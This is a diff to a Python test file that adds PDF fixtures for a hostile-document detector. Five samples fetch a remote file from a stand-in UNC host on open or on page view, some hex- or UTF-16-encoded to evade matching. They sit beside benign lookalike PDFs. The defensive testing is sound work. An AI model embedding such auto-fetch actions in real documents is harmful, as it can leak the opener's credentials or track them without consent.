@@ -7,7 +7,7 @@ import docx
 from docx.oxml import OxmlElement
 from docx.oxml.ns import qn
 
-from tests.infotheque.hostile import TYPES, bomb, office, open_text, open_text_with
+from tests.infotheque.hostile import TYPES, bomb, office, open_text, open_text_with, pdf_with
 
 _WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 _BEGIN, _SEPARATE, _END = (f"<w:fldChar w:fldCharType='{turn}'/>" for turn in ("begin", "separate", "end"))
@@ -220,4 +220,30 @@ EVERYDAY = {
         "<p xmlns:a='a'><a:hlinkClick action='ppaction://hlinkshowjump?jump=nextslide'/></p>"
     ),
     "LibreOffice": open_text("Object 1/content.xml"),
+}
+
+
+_UNC = rb"(\\\\loin.example\\a.pdf)"
+FETCHING_PDFS = {
+    "when it is opened": pdf_with(b"/OpenAction<</S/GoToR/F%s/D[0/Fit]>>" % _UNC),
+    "when its page is": pdf_with(
+        b"", b"<</S/GoToE/F 5 0 R/D[0/Fit]>>", b"<</F%s>>" % _UNC, page=b"/AA<</O 4 0 R>>"
+    ),
+    "in numbers": pdf_with(b"/OpenAction 4 0 R", b"<</S/GoToR/F<5c5c 6c6f696e5c61>/D[0/Fit]>>"),
+    "in another alphabet": pdf_with(
+        b"/OpenAction 4 0 R", b"<</S/GoToR/F<</UF<FEFF005C005C006C>/Type/Filespec>>/D[0/Fit]>>"
+    ),
+    "with slashes": pdf_with(b"/OpenAction<</S/ImportData/F(//loin.example/a.fdf)>>"),
+}
+_LINK = b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F%s/D[0/Fit]>>>>]"
+EVERYDAY_PDFS = {
+    "a link to the server of the office": pdf_with(b"", page=_LINK % _UNC),
+    "opened at its first page": pdf_with(b"/OpenAction[3 0 R/Fit]", page=_LINK % _UNC),
+    "opened by an action, with a link to a file beside": pdf_with(
+        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", page=_LINK % b"(budget.pdf)"
+    ),
+    "a page of the web": pdf_with(
+        b"/OpenAction<</S/Named/N/Print>>",
+        page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://a.example)>>>>]",
+    ),
 }
